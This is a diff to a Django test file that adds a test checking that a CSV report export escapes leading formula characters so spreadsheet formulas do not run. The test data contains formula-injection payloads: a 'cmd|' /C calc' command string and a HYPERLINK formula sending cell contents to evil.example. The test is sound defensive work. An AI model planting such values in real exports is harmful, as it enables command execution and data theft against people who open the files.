@@ -97,3 +97,14 @@ def test_page_and_csv_cost_the_same_queries_for_10_or_300_jobs(make_user, count,
     assert page.content.decode().count('name="job" value=') == min(count, 50)  # paginated
     with django_assert_max_num_queries(6):
         assert len(_csv(client.get("/reports/compare.csv"))) == count
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_never_hands_a_spreadsheet_a_formula(make_user, start):
+    """A name typed by a user must not run as a formula when a manager opens the export."""
+    maria = make_user("maria", workspace=f"{start}cmd|' /C calc'!A0", role="manager")
+    name = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
+    job = make_job(maria.memberships.get().workspace, name=name, model_line_name=f"{start}line")
+    row = _csv(csrf_client(maria).get(f"/reports/compare.csv?job={job.pk}"))[0]
+    assert row["name"] == "'" + name
+    assert row["workspace"].startswith("'") and row["model line"] == f"'{start}line"
